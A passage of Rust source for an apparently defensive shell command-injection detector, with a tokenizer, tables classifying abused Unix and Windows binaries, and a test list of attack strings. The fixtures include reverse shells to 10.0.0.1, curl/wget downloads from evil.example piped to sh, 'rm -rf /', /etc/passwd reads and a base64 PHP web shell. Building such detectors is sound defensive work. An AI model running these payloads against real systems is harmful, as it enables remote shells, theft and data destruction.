                && let Some(d) = s.get(k).and_then(|&c| (c as char).to_digit(radix))
            {
                val = val * radix + d;
                k += 1;
            }
            self.push((val & 0xff) as u8, true);
            j = k.max(j + 2);
        }
        self.i = j;
    }

    /// `%NAME%` / `%NAME:~a,b%` in `cmd`; `%COMSPEC%` is `cmd.exe`.
    fn percent(&mut self, quoted: bool) -> Option<Tok> {
        let s = self.s;
        let i = self.i;
        let close = s[i + 1..]
            .iter()
            .take(MAX_LOOKAHEAD)
            .position(|&b| b == b'%')
            .filter(|&c| {
                c > 0
                    && s[i + 1..i + 1 + c].iter().all(|&b| {
                        b.is_ascii_alphanumeric()
                            || matches!(b, b'_' | b'~' | b':' | b',' | b'-' | b'(' | b')' | b'=')
                    })
            });
        let Some(c) = close else {
            self.i += 1;
            self.push(b'%', quoted);
            return None;
        };
        let name = &s[i + 1..i + 1 + c];
        self.i = i + 2 + c;
        self.obfuscated("expansion");
        if name.eq_ignore_ascii_case(b"comspec") {
            for &b in b"cmd" {
                self.push(b, true);
            }
        }
        None
    }

    /// `{` at the start of a word: a group (`{ id; }`), a brace expansion
    /// (`{cat,/etc/passwd}`), or a literal.
    fn brace_open(&mut self) -> Option<Tok> {
        let s = self.s;
        let i = self.i;
        if s.get(i + 1)
            .is_some_and(|&b| b == b' ' || b == b'\t' || b == b'\n')
        {
            // A group `{ id; }`: `{` and `}` are words the analyzer skips.
            self.i += 1;
            self.push(b'{', false);
            return None;
        }
        let mut comma = false;
        let mut close = None;
        for (k, &b) in s.iter().enumerate().skip(i + 1).take(MAX_LOOKAHEAD) {
            match b {
                b'}' => {
                    close = Some(k);
                    break;
                }
                b',' => comma = true,
                b' ' | b'\t' | b'\n' | b';' | b'|' | b'&' | b'<' | b'>' | b'(' | b')' | b'{' => {
                    break;
                }
                _ => {}
            }
        }
        match close {
            Some(end) if comma => {
                self.brace = Some((i + 1, end));
                self.i = end + 1;
                self.brace_element()
            }
            _ => {
                self.i += 1;
                self.push(b'{', false);
                None
            }
        }
    }

    /// The next element of a pending brace expansion, as its own word.
    fn brace_element(&mut self) -> Option<Tok> {
        let (start, end) = self.brace?;
        let s = self.s;
        let comma = s[start..end]
            .iter()
            .position(|&b| b == b',')
            .map_or(end, |c| start + c);
        self.start_word();
        for &b in &s[start..comma] {
            if !matches!(b, b'\'' | b'"' | b'\\') {
                self.push(b, false);
            }
        }
        self.word.obf = Some("brace");
        self.brace = (comma < end).then_some((comma + 1, end));
        self.in_word = false;
        // Elements after the first are separate words.
        self.space = true;
        Some(Tok::Word)
    }
}

// ------------------------------------------------------------- analyzer --

/// Does harm or reconnaissance with no argument, and is no English word.
const BARE: u16 = 1;
/// Like `BARE` but reads as a word (`id`, `ls`, `set`): bare only when glued
/// to the operator or inside a substitution.
const BARE_TIGHT: u16 = 2;
/// A name nobody writes in prose: any argument (or none) will do.
const NAME: u16 = 4;
/// Takes a host, address or URL.
const NET: u16 = 8;
/// Takes a duration.
const TIMER: u16 = 16;
/// Reads, writes or runs a file.
const FILE: u16 = 32;
/// Takes a subcommand (`net user`, `reg query`).
const SUBCMD: u16 = 64;

/// Commonly abused Unix and Windows binaries and how they are used.
fn class_of(name: &[u8]) -> Option<u16> {
    Some(match name {
        b"whoami" | b"uname" | b"ifconfig" | b"ipconfig" | b"systeminfo" | b"tasklist"
        | b"wmic" | b"certutil" | b"bitsadmin" | b"nslookup" | b"netcat" | b"ncat"
        | b"rundll32" | b"regsvr32" | b"mshta" | b"cscript" | b"wscript" | b"vssadmin"
        | b"msiexec" | b"visudo" | b"nltest" | b"dsquery" | b"qwinsta" | b"quser" | b"klist"
        | b"cmdkey" | b"icacls" | b"takeown" | b"bcdedit" | b"bcdboot" | b"wevtutil" | b"netsh"
        | b"taskkill" | b"esentutl" | b"jrunscript" | b"iex" | b"iwr" | b"irm" | b"iwmi"
        | b"invoke-expression" | b"invoke-webrequest" | b"invoke-restmethod"
        | b"invoke-wmimethod" | b"start-process" | b"new-object" | b"ssh-copy-id"
        | b"ssh-keygen" => NAME | BARE | NET | FILE,
        // Configuration-management, package and security tooling whose
        // names nobody writes in prose (hyphenated or vendor-specific): they
        // run or install code, dump secrets or turn off protections, with
        // any argument or none.
        b"ansible-playbook" | b"ansible-galaxy" | b"ansible-console" | b"ansible-doc"
        | b"ansible-inventory" | b"ansible-pull" | b"ansible-vault" | b"ansible-config"
        | b"chef-client" | b"chef-shell" | b"chef-run" | b"chef-vault" | b"chef-solo"
        | b"salt-call" | b"salt-run" | b"cscli" | b"pip3" | b"pipx" | b"aptitude"
        | b"aa-disable" | b"aa-complain" | b"aa-teardown" | b"apparmor_parser" | b"setenforce"
        | b"rmt-tar" | b"rmt-dump" => NAME | BARE,
        b"pwd" | b"printenv" | b"getent" => BARE,
        b"id" | b"ls" | b"ps" | b"env" | b"who" | b"dir" | b"ver" | b"top" | b"hostname"
        | b"netstat" | b"uptime" | b"lsof" => BARE_TIGHT,
        b"sh" | b"bash" | b"zsh" | b"ksh" | b"dash" | b"csh" | b"tcsh" | b"cmd" | b"powershell"
        | b"pwsh" => FILE,
        b"curl" | b"wget" | b"nc" | b"telnet" | b"ssh" | b"ftp" | b"tftp" | b"socat" | b"scp"
        | b"fetch" | b"lynx" | b"dig" | b"host" | b"nmap" | b"rsync" | b"whois" | b"finger"
        | b"traceroute" | b"tracert" | b"arp" | b"route" => NET | FILE,
        b"ping" => NET | TIMER,
        b"sleep" | b"timeout" => TIMER,
        b"cat" | b"tac" | b"head" | b"tail" | b"more" | b"less" | b"nl" | b"od" | b"xxd"
        | b"base64" | b"base32" | b"strings" | b"type" | b"rm" | b"cp" | b"mv" | b"chmod"
        | b"chown" | b"touch" | b"mkdir" | b"del" | b"copy" | b"xcopy" | b"robocopy" | b"tee"
        | b"dd" | b"tar" | b"unzip" | b"zip" | b"grep" | b"findstr" | b"find" | b"awk"
        | b"gawk" | b"sed" | b"cut" | b"sort" | b"uniq" | b"rev" | b"fold" | b"column"
        | b"comm" | b"diff" | b"file" | b"stat" | b"date" | b"ln" | b"shred" | b"truncate"
        | b"vi" | b"vim" | b"ex" | b"ed" | b"gdb" | b"strace" | b"busybox" | b"python"
        | b"python2" | b"python3" | b"perl" | b"ruby" | b"irb" | b"php" | b"node" | b"lua"
        | b"java" | b"source" | b"crontab" | b"gcc" | b"cc" | b"c89" | b"c99" | b"attrib"
        | b"gpg" | b"mail" | b"sendmail" => FILE,
        b"net" | b"net1" | b"reg" | b"sc" | b"schtasks" => SUBCMD,
        b"echo" | b"printf" | b"kill" | b"killall" | b"pkill" | b"su" | b"sudo" | b"doas"
        | b"passwd" | b"useradd" | b"adduser" | b"usermod" | b"chpasswd" | b"openssl"
        | b"systemctl" | b"service" | b"shutdown" | b"reboot" | b"iptables" | b"eval" | b"exec"
        | b"nohup" | b"xargs" | b"export" | b"history" | b"chattr" | b"mkfifo" | b"mknod"
        | b"nice" | b"command" | b"builtin" | b"start" | b"set" | b"mount" | b"df" | b"free"
        | b"runas" | b"diskpart" | b"fsutil" | b"forfiles" | b"makecab" | b"ip"
        // Binaries that run other programs or fetch and install code
        // (configuration management, package managers, wrappers that
        // spawn a command, tools with a shell escape); English-looking
        // ones (`time`, `watch`, `make`) still need an option or path.
        | b"ansible" | b"chef" | b"knife" | b"salt" | b"puppet" | b"pip" | b"npm" | b"npx" | b"gem" | b"apt" | b"apt-get" | b"yum"
        | b"dnf" | b"rpm" | b"dpkg" | b"flock" | b"cpulimit" | b"perf" | b"rmt" | b"trap"
        | b"docker" | b"kubectl" | b"tcpdump" | b"screen" | b"tmux" | b"expect"
        | b"systemd-run" | b"unshare" | b"chroot" | b"setarch" | b"taskset" | b"ionice"
        | b"stdbuf" | b"watch" | b"rlwrap" | b"sftp" | b"smbclient" | b"mysql" | b"psql"
        | b"sqlite3" | b"git" | b"make" | b"aria2c" | b"tclsh" | b"jjs" | b"capsh"
        | b"nmcli" | b"time" | b"timedatectl" | b"run-parts" | b"logsave" => 0,
        _ => return None,
    })
}

/// The interpreter or compiler a versioned binary name stands for
/// (`python3.10` → `python`, `php8.1` → `php`, `gcc-12` → `gcc`); `None` for
/// names with no version suffix or another stem.
fn unversioned(name: &[u8]) -> Option<&[u8]> {
    let end = name
        .iter()
        .rposition(|b| !(b.is_ascii_digit() || *b == b'.' || *b == b'-'))?
        + 1;
    let version = &name[end..];
    if !version.iter().any(u8::is_ascii_digit) || version.len() > 8 {
        return None;
    }
    let stem = &name[..end];
    const STEMS: &[&[u8]] = &[
        b"python", b"python2", b"python3", b"php", b"perl", b"ruby", b"node", b"lua", b"gcc",
        b"java", b"tclsh", b"pip",
    ];
    STEMS.iter().copied().find(|s| *s == stem)
}

/// Commands `cmd.exe` can run (built-ins and stock Windows binaries, plus
/// the curl/ssh/tar that ship with Windows 10+, and common interpreters). In
/// `cmd` passes other names are not commands: `x.map(|id| id)` is code there.
fn on_windows(name: &[u8]) -> bool {
    matches!(
        name,
        b"whoami"
            | b"ipconfig"
            | b"systeminfo"
            | b"tasklist"
            | b"wmic"
            | b"certutil"
            | b"bitsadmin"
            | b"nslookup"
            | b"rundll32"
            | b"regsvr32"
            | b"mshta"
            | b"cscript"
            | b"wscript"
            | b"vssadmin"
            | b"msiexec"
            | b"nltest"
            | b"dsquery"
            | b"qwinsta"
            | b"quser"
            | b"klist"
            | b"cmdkey"
            | b"icacls"
            | b"takeown"
            | b"bcdedit"
            | b"bcdboot"
            | b"wevtutil"
            | b"netsh"
            | b"taskkill"
            | b"esentutl"
            | b"iex"
            | b"iwr"
            | b"irm"
            | b"iwmi"
            | b"invoke-expression"
            | b"invoke-webrequest"
            | b"invoke-restmethod"
            | b"invoke-wmimethod"
            | b"start-process"
            | b"new-object"
            | b"hostname"
            | b"netstat"
            | b"dir"
            | b"ver"
            | b"set"
            | b"cmd"
            | b"powershell"
            | b"pwsh"
            | b"curl"
            | b"ssh"
            | b"scp"
            | b"tar"
            | b"ftp"
            | b"tftp"
            | b"telnet"
            | b"ping"
            | b"tracert"
            | b"arp"
            | b"route"
            | b"timeout"
            | b"type"
            | b"del"
            | b"copy"
            | b"xcopy"
            | b"robocopy"
            | b"findstr"
            | b"find"
            | b"more"
            | b"attrib"
            | b"echo"
            | b"net"
            | b"net1"
            | b"reg"
            | b"sc"
            | b"schtasks"
            | b"start"
            | b"runas"
            | b"diskpart"
            | b"fsutil"
            | b"forfiles"
            | b"makecab"
            | b"mkdir"
            | b"shutdown"
            | b"java"
            | b"python"
            | b"node"
            | b"perl"
            | b"php"
    )
}

/// Words that may stand before the command (`sudo -u root id`, `if id`).
fn is_prefix(name: &[u8]) -> bool {
    matches!(
        name,
        b"sudo"
            | b"doas"
            | b"nohup"
            | b"exec"
            | b"env"
            | b"nice"
            | b"command"
            | b"builtin"
            | b"xargs"
            | b"time"
            | b"start"
            | b"call"
            | b"strace"
            | b"."
            | b"!"
            | b"{"
            | b"}"
            | b"if"
            | b"then"
            | b"do"
            | b"else"
            | b"elif"
            | b"while"
            | b"until"
    )
}

/// `net user`, `reg query`, `sc create`, `schtasks /create`.
fn is_subcommand(t: &[u8]) -> bool {
    matches!(
        t,
        b"user"
            | b"users"
            | b"localgroup"
            | b"group"
            | b"view"
            | b"share"
            | b"use"
            | b"accounts"
            | b"session"
            | b"config"
            | b"query"
            | b"add"
            | b"delete"
            | b"save"
            | b"export"
            | b"import"
            | b"create"
            | b"stop"
    )
}

/// Directories searched when a command word is a glob (`/???/c?t`).
const BIN_DIRS: &[&[u8]] = &[
    b"/bin",
    b"/usr/bin",
    b"/sbin",
    b"/usr/sbin",
    b"/usr/local/bin",
];

/// Unix binaries a glob may stand for.
const GLOB_NAMES: &[&[u8]] = &[
    b"cat",
    b"tac",
    b"id",
    b"ls",
    b"sh",
    b"bash",
    b"dash",
    b"zsh",
    b"ksh",
    b"nc",
    b"ncat",
    b"netcat",
    b"wget",
    b"curl",
    b"whoami",
    b"uname",
    b"python",
    b"python3",
    b"perl",
    b"ruby",
    b"php",
    b"ping",
    b"sleep",
    b"rm",
    b"chmod",
    b"echo",
    b"base64",
    b"head",
    b"tail",
    b"more",
    b"less",
    b"nl",
    b"od",
    b"xxd",
    b"busybox",
    b"telnet",
    b"socat",
    b"nslookup",
    b"hostname",
    b"ifconfig",
    b"netstat",
    b"ps",
    b"env",
    b"printenv",
];

struct Finding {
    /// Found in the first command of a whole command line (no break-out).
    start: bool,
    /// The command is PowerShell's (see `scan`).
    powershell: bool,
    /// The command word itself was disguised (quotes, escapes, `$IFS`,
    /// globs), not merely given by path.
    tricked: bool,
    detail: String,
}

/// The command being read: its resolved name and the evidence so far.
struct Command {
    name: [u8; 24],
    name_len: usize,
    class: u16,
    /// The operator or substitution that put it in command position; `None`
    /// for the first word of a whole command line.
    after: Option<&'static str>,
    /// Glued to the operator (`;id`, not `; id`); for a backtick
    /// substitution, the substitution glued to a word or in command position.
    tight: bool,
    /// In a backtick substitution glued to a word on its left.
    in_word: bool,
    /// Evidence from the command word itself.
    strong: Option<&'static str>,
    /// Evidence from arguments or redirections.
    evidence: Option<&'static str>,
    args: usize,
    numeric_only: bool,
    mode: Mode,
    /// Read in a document: only a trick on the command word (or `$IFS`,
    /// ANSI-C quoting in an argument) is evidence.
    doc: bool,
    /// The first command after a break-out that opens the input.
    opening: bool,
    /// It ends the input.
    last: bool,
}

struct Analyzer {
    mode: Mode,
    /// The next word is in command position, and why (`Some(None)`: the
    /// first word of a whole command line).
    expect: Option<Option<&'static str>>,
    /// `expect` is still open after a prefix such as `sudo`.
    prefixed: bool,
    cmd: Option<Command>,
    /// Commands whose arguments a substitution interrupted (`cat $(x) /f`).
    outer: Vec<Option<Command>>,
    /// The innermost backtick substitution is glued to a word or opened in
    /// command position: only then may an English-looking command in it
    /// stand alone (`x`id``, `` ;`id` `` — but not "the `id` field").
    open_glued: bool,
    /// The innermost backtick substitution is glued to a word on its left
    /// (`` x`echo y` ``): a Markdown span never is.
    open_in_word: bool,
    /// Obfuscation seen in command position before the command itself
    /// (`$u wget …`, `ti''me curl …`): evidence for it.
    carry: Option<&'static str>,
    redirect_pending: bool,
    broke_out: bool,
    globs: usize,
    /// The input is a document (see [`is_document`]): only tricks count.
    doc: bool,
    /// The input starts with one value-shaped word and a break-out (see
    /// [`value_lead`]): the first command after it counts as glued.
    lead: bool,
    /// The input opens with a break-out (see [`opens_with_breakout`]): the
    /// first command after it counts with any argument.
    opening: bool,
}

impl Analyzer {
    fn new(mode: Mode, whole_line: bool) -> Self {
        Analyzer {
            mode,
            expect: whole_line.then_some(None),
            prefixed: false,
            cmd: None,
            outer: Vec::new(),
            open_glued: false,
            open_in_word: false,
            carry: None,
            redirect_pending: false,
            broke_out: false,
            globs: 0,
            doc: false,
            lead: false,
            opening: false,
        }
    }

    fn word(&mut self, w: &Word) -> Option<Finding> {
        if self.redirect_pending {
            self.redirect_pending = false;
            let t = &w.text;
            if t.starts_with(b"/dev/tcp/") || t.starts_with(b"/dev/udp/") {
                return Some(Finding {
                    start: !self.broke_out,
                    powershell: false,
                    tricked: false,
                    detail: format!("redirect={}", show(t)),
                });
            }
            // To or from a file path (`>/var/www/s.php`, `</etc/passwd`);
            // `type <T>` or `a > b` in prose has no path.
            if let Some(c) = &mut self.cmd
                && t.iter().any(|b| matches!(b, b'/' | b'\\' | b'.'))
            {
                c.evidence.get_or_insert("redirect");
            }
            return None;
        }
        if let Some(after) = self.expect {
            if w.assign || w.text.is_empty() {
                if w.text.is_empty() && w.obf.is_some() {
                    self.carry = w.obf;
                }
                return None;
            }
            if self.prefixed && (w.text.starts_with(b"-") || w.text.iter().all(u8::is_ascii_digit))
            {
                // An option of the prefix (`sudo -u root`, `nice -n 5`); its
                // value, if any, is taken as the command: a small miss.
                return None;
            }
            let prefix = is_prefix(&w.text);
            // Only the first word after the opening break-out (or after
            // prefixes such as `sudo` on it) may use it.
            let opening = after.is_some() && self.opening;
            self.cmd = self.command(w, after);
            if let Some(c) = &mut self.cmd {
                c.strong = c.strong.or(self.carry);
                c.opening = opening;
            }
            if !prefix && after.is_some() {
                self.opening = false;
            }
            self.carry = if prefix { self.carry.or(w.obf) } else { None };
            if prefix {
                self.prefixed = true;
            } else {
                self.expect = None;
                self.prefixed = false;
            }
            return None;
        }
        if let Some(c) = &mut self.cmd {
            c.arg(w);
        }
        None
    }

    fn redirect(&mut self, here_string: bool) -> Option<Finding> {
        if here_string && let Some(c) = &mut self.cmd {
            // `cat<<<id`: a shell-only construct.
            c.evidence.get_or_insert("here-string");
        }
        self.redirect_pending = true;
        None
    }

    /// A substitution opens: its first word is in command position, and the
    /// command it interrupts resumes when it closes.
    fn open(&mut self, op: &'static str, glued: bool, in_word: bool) -> Option<Finding> {
        self.redirect_pending = false;
        self.prefixed = false;
        self.carry = None;
        self.open_glued = glued || self.expect.is_some();
        self.open_in_word = in_word;
        let found = if self.outer.len() < MAX_NESTING {
            self.outer.push(self.cmd.take());
            None
        } else {
            self.cmd.take().and_then(|c| c.judge(None))
        };
        self.expect = Some(Some(op));
        self.broke_out = true;
        found
    }

    /// A subshell opens: its first word stays in command position; the
    /// interrupted command (if any) resumes after it like after `$(…)`.
    fn group(&mut self) {
        if self.outer.len() < MAX_NESTING {
            self.outer.push(self.cmd.take());
        }
    }

    fn close(&mut self) -> Option<Finding> {
        let found = self.boundary(None, None);
        if let Some(Some(mut c)) = self.outer.pop() {
            // The substitution's output is one more argument.
            c.args += 1;
            c.numeric_only = false;
            self.cmd = Some(c);
        }
        found
    }

    /// A separator, comment, closing substitution or the end: judge the
    /// finished command (`ender`: the separator or `#` that ended it, as in
    /// `; id;`); `op` (if any) puts the next word in command position.
    fn boundary(
        &mut self,
        op: Option<&'static str>,
        ender: Option<&'static str>,
    ) -> Option<Finding> {
        self.redirect_pending = false;
        self.prefixed = false;
        self.carry = None;
        let found = self.cmd.take().and_then(|c| c.judge(ender));
        self.expect = op.map(Some);
        if op.is_some() {
            self.broke_out = true;
        }
        found
    }

    fn command(&mut self, w: &Word, after: Option<&'static str>) -> Option<Command> {
        let mut strong = w.obf;
        if w.ifs {
            strong = strong.or(Some("ifs"));
        }
        let t = &w.text[..];
        let sep: &[u8] = if self.mode == Mode::Posix {
            b"/"
        } else {
            b"/\\"
        };
        let absolute = t.first() == Some(&b'/')
            || (self.mode != Mode::Posix
                && (matches!(t, [d, b':', b'\\' | b'/', ..] if d.is_ascii_alphabetic())
                    || t.starts_with(b"\\\\")));
        let mut name: &[u8] = t;
        if absolute {
            if w.glob && t.first() == Some(&b'/') {
                name = self.glob(t)?;
                strong = Some("glob");
            } else {
                let base = t.iter().rposition(|b| sep.contains(b)).map_or(0, |p| p + 1);
                name = &t[base..];
                strong = strong.or(Some("absolute-path"));
            }
        } else if t.iter().any(|b| sep.contains(b)) {
            // A relative path (`./x`, `bin/sh`) is no known binary.
            return None;
        }
        for ext in [&b".exe"[..], b".com", b".bat", b".cmd"] {
            if let Some(stem) = name.strip_suffix(ext) {
                name = stem;
            }
        }
        let (name, class) = match class_of(name) {
            Some(c) => (name, c),
            None => {
                // A versioned interpreter or compiler (`python3.10`,
                // `php8.1`, `gcc-12`, `perl5.36`) is the same binary.
                let base = unversioned(name)?;
                (base, class_of(base)?)
            }
        };
        if self.mode != Mode::Posix && !on_windows(name) {
            return None;
        }
        let mut buf = [0u8; 24];
        let name_len = name.len().min(buf.len());
        buf[..name_len].copy_from_slice(&name[..name_len]);
        Some(Command {
            name: buf,
            name_len,
            class,
            after,
            tight: if after == Some("`") {
                self.open_glued
            } else {
                !w.space_before || (after.is_some() && std::mem::take(&mut self.lead))
            },
            in_word: after == Some("`") && self.open_in_word,
            strong,
            evidence: None,
            args: 0,
            numeric_only: true,
            mode: self.mode,
            doc: self.doc,
            opening: false,
            last: false,
        })
    }

    /// Resolves a globbed absolute command word against the usual binary
    /// directories; bounded per pass.
    fn glob(&mut self, t: &[u8]) -> Option<&'static [u8]> {
        if self.globs >= MAX_GLOBS || t.len() > 64 {
            return None;
        }
        self.globs += 1;
        let slash = t.iter().rposition(|&b| b == b'/')?;
        let (dir, base) = (&t[..slash], &t[slash + 1..]);
        if !BIN_DIRS.iter().any(|d| glob_match(dir, d)) {
            return None;
        }
        GLOB_NAMES.iter().copied().find(|n| glob_match(base, n))
    }
}

impl Command {
    fn arg(&mut self, w: &Word) {
        self.args += 1;
        let t = &w.text[..];
        if t.is_empty() || !t.iter().all(|&b| b.is_ascii_digit() || b == b'.') {
            self.numeric_only = false;
        }
        if self.evidence.is_none() && self.args <= MAX_ARGS {
            self.evidence = arg_evidence(w, self.class, self.mode);
        }
    }

    fn judge(self, ender: Option<&'static str>) -> Option<Finding> {
        // A pipe does not count as ending a bare command: Markdown tables
        // read `| id |`.
        let terminated = matches!(ender, Some(op) if op != "|");
        // `x.map(|dir| …)` in `cmd` is code as often as a pipe (there are
        // no syntax errors to tell them apart): a bare pipe target needs more.
        let tight = self.tight && !(self.mode != Mode::Posix && self.after == Some("|"));
        // A backtick span after a blank or a bracket reads as Markdown
        // ("Both `hostname` and", "[`uname`]"): alone, no name counts there.
        let span = self.after == Some("`") && !tight;
        // A word-like command is bare only glued to its operator, followed by
        // another, in a substitution, or as all that follows a break-out
        // opening the input (`; id`, `127.0.0.1 & dir`: what the
        // application appends to its command line, and no prose).
        let bare_ok = !span
            && (self.class & BARE != 0
                || (self.class & BARE_TIGHT != 0
                    && (tight
                        || terminated
                        || (self.opening && self.last)
                        || matches!(self.after, Some("$(" | "<(" | ">(")))));
        if self.doc {
            // Code and prose quote commands with options, paths, variables
            // and pipes (`sort | uniq -c`, `RUN pip install -r x.txt`,
            // `gzip "$f"`): in a document only what nobody writes to be
            // read counts.
            let trick = self
                .strong
                .filter(|&s| s != "absolute-path")
                .or(self.evidence.filter(|&e| matches!(e, "ifs" | "ansi-c")));
            trick?;
        }
        let why = match self.after {
            // A whole command line: only what no documentation looks like,
            // or an unmistakable name chained on (`whoami|sh`, `ifconfig;`).
            None => self.strong.or_else(|| {
                (self.class & NAME != 0 && matches!(ender, Some(op) if op != "#")).then_some("name")
            }),
            Some(_) => {
                let shape = if self.args == 0 && bare_ok {
                    Some("no-argument")
                } else if self.args > 0 && self.class & NAME != 0 && !span {
                    Some("name")
                } else if self.args > 0 && self.class & TIMER != 0 && self.numeric_only {
                    Some("delay")
                } else if self.args > 0
                    && self.opening
                    && !span
                    && (self.tight || matches!(&self.name[..self.name_len], b"echo" | b"printf"))
                {
                    // `;echo QWERTY`, `"&& printf x`: nothing but an
                    // injection opens a value with a break-out and a command.
                    Some("opening")
                } else if self.args > 0
                    && (matches!(self.after, Some("$(" | "<(" | ">(")) || self.in_word)
                {
                    // `$(printf x)`, `` x`echo y` ``: a command substitution
                    // runs a command (a backtick one only glued to a word:
                    // Markdown spans follow a blank).
                    Some("substitution")
                } else {
                    None
                };
                self.strong.or(self.evidence).or(shape)
            }
        }?;
        let name = show(&self.name[..self.name_len]);
        let detail = match self.after {
            None => format!("command={name} evidence={why}"),
            Some(op) => format!("after={op} command={name} evidence={why}"),
        };
        let name = &self.name[..self.name_len];
        Some(Finding {
            start: self.after.is_none(),
            tricked: self.strong.is_some_and(|s| s != "absolute-path"),
            powershell: name.starts_with(b"invoke-")
                || matches!(
                    name,
                    b"iex"
                        | b"iwr"
                        | b"irm"
                        | b"iwmi"
                        | b"start-process"
                        | b"new-object"
                        | b"powershell"
                        | b"pwsh"
                ),
            detail,
        })
    }
}

/// What makes an argument shell-shaped for a command of `class`.
fn arg_evidence(w: &Word, class: u16, mode: Mode) -> Option<&'static str> {
    // `cmd` passes quotes in arguments on to the program: no trick there.
    let quote_only = matches!(w.obf, Some("split-quote" | "empty-quote"));
    if let Some(o) = w.obf
        && !(mode == Mode::Cmd && quote_only)
    {
        return Some(o);
    }
    if w.ifs {
        return Some("ifs");
    }
    let t = &w.text[..];
    let generic = match t {
        // A letter, not a digit: "-5 degrees" is prose.
        [b'-', c, ..] if c.is_ascii_alphabetic() => Some("option"),
        [b'-', b'-', c, ..] if c.is_ascii_alphabetic() => Some("option"),
        [b'+', c, ..] if c.is_ascii_alphabetic() => Some("option"),
        [b'/'] => Some("absolute-path"),
        [b'/', c, ..] if c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'?' | b'*') => {
            Some("absolute-path")
        }
        [b'~', ..] => Some("home-path"),
        [b'.', b'/', ..] | [b'.', b'.', b'/', ..] => Some("relative-path"),
        [d, b':', b'\\' | b'/', ..] if d.is_ascii_alphabetic() => Some("drive-path"),
        [b'\\', b'\\', ..] if mode != Mode::Posix => Some("unc-path"),
        _ => None,
    };
    generic.or_else(|| {
        if class & NET != 0 && is_network_target(t) {
            Some("network-target")
        } else if class & FILE != 0 && is_file_name(t) {
            Some("file")
        } else if class & SUBCMD != 0 && is_subcommand(t) {
            Some("subcommand")
        } else {
            None
        }
    })
}

/// A URL, IPv4 address or dotted host name (`evil.com`, `10.0.0.1:4444`).
fn is_network_target(t: &[u8]) -> bool {
    if t.windows(3).any(|w| w == b"://") || t.starts_with(b"www.") {
        return true;
    }
    let host = t.split(|&b| b == b':' || b == b'/').next().unwrap_or(t);
    let labels = host.split(|&b| b == b'.').count();
    if labels < 2 || host.ends_with(b".") || host.starts_with(b".") {
        return false;
    }
    if host.iter().all(|&b| b.is_ascii_digit() || b == b'.') {
        return labels == 4;
    }
    let tld = host.rsplit(|&b| b == b'.').next().unwrap_or(host);
    host.iter()
        .all(|&b| b.is_ascii_alphanumeric() || b == b'-' || b == b'.')
        && tld.len() >= 2
        && tld.iter().all(u8::is_ascii_alphabetic)
}

/// `index.php`, `x.py`, `.htaccess`: a file name with an extension.
fn is_file_name(t: &[u8]) -> bool {
    let Some(dot) = t.iter().rposition(|&b| b == b'.') else {
        return false;
    };
    let ext = &t[dot + 1..];
    (1..=5).contains(&ext.len())
        && ext.iter().all(u8::is_ascii_alphanumeric)
        && t.iter()
            .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'))
}

/// Shell glob (`?`, `*`, `[…]`) against a literal, iteratively with one
/// backtrack point: O(|p|·|t|).
pub(super) fn glob_match(p: &[u8], t: &[u8]) -> bool {
    let (mut pi, mut ti) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while ti < t.len() {
        let step = match p.get(pi) {
            Some(b'*') => {
                star = Some((pi, ti));
                pi += 1;
                continue;
            }
            Some(b'?') => Some(pi + 1),
            Some(b'[') => match class_match(p, pi, t[ti]) {
                Some((true, next)) => Some(next),
                Some((false, _)) => None,
                None => (t[ti] == b'[').then_some(pi + 1),
            },
            Some(&c) => (c == t[ti]).then_some(pi + 1),
            None => None,
        };
        match (step, star) {
            (Some(next), _) => {
                pi = next;
                ti += 1;
            }
            (None, Some((sp, st))) => {
                pi = sp + 1;
                ti = st + 1;
                star = Some((sp, st + 1));
            }
            (None, None) => return false,
        }
    }
    p[pi.min(p.len())..].iter().all(|&b| b == b'*')
}

/// A bracket expression at `p[pi] == '['`: whether `c` matches and where
/// the pattern continues; `None` when it is not closed.
fn class_match(p: &[u8], pi: usize, c: u8) -> Option<(bool, usize)> {
    let mut j = pi + 1;
    let negate = matches!(p.get(j), Some(b'!' | b'^'));
    if negate {
        j += 1;
    }
    let mut hit = false;
    let mut first = true;
    loop {
        let &b = p.get(j)?;
        if b == b']' && !first {
            return Some((hit != negate, j + 1));
        }
        first = false;
        if p.get(j + 1) == Some(&b'-')
            && let Some(&hi) = p.get(j + 2)
            && hi != b']'
        {
            hit |= (b..=hi).contains(&c);
            j += 3;
        } else {
            hit |= b == c;
            j += 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn flagged(s: &str) -> Option<Detection> {
        detect(s.as_bytes())
    }

    /// Attacks: each must be flagged.
    const ATTACKS: &[&str] = &[
        "127.0.0.1 | id",
        "example.com ; id",
        ";c'a't /e't'c/pa's's'wd",
        // Separators after an argument.
        ";id",
        "127.0.0.1;id",
        "127.0.0.1; cat /etc/passwd",
        "127.0.0.1 | cat /etc/passwd",
        "127.0.0.1 || whoami",
        "127.0.0.1 && uname -a",
        "127.0.0.1 & whoami",
        "127.0.0.1\nid",
        "127.0.0.1\ncat /etc/passwd",
        "x|id|",
        "foo;ls -la",
        "foo;ls",
        "; sleep 5",
        "|sleep 10;",
        "& ping -c 10 127.0.0.1 &",
        "; wget http://evil.example/x.sh -O /tmp/x.sh",
        "; curl evil.example/x | sh",
        ";curl http://evil.example/shell.sh|bash",
        "; nc -e /bin/sh 10.0.0.1 4444",
        "| nc 10.0.0.1 4444",
        "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "; python -c 'import os; os.system(\"id\")'",
        "; perl -e 'print 1'",
        "; php -r 'system(\"id\");'",
        "; rm -rf /",
        "; chmod +x /tmp/x",
        "; echo PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg== | base64 -d > /var/www/s.php",
        "; nslookup evil.example",
        "; cat index.php",
        // Substitutions.
        "$(id)",
        "`id`",
        "`whoami`",
        "x$(cat /etc/passwd)",
        "127.0.0.1`sleep 5`",
        "$(sleep 5)",
        "a <(id)",
        // Quoted contexts.
        "'; id; '",
        "';cat /etc/passwd;'",
        "\"; whoami; \"",
        "\"$(whoami)\"",
        // Obfuscation.
        ";c'a't /etc/passwd",
        ";c\"\"at /etc/passwd",
        ";c\\at /etc/passwd",
        "c'a't /etc/passwd",
        "cat$IFS/etc/passwd",
        ";cat${IFS}/etc/passwd",
        ";cat$IFS$9/etc/passwd",
        "{cat,/etc/passwd}",
        ";{ls,-la}",
        ";wh$@oami",
        ";who$()ami",
        ";who``ami",
        ";/???/c?t /???/p??s??",
        "/???/c?t /???/p??s??",
        ";/bin/cat /etc/passwd",
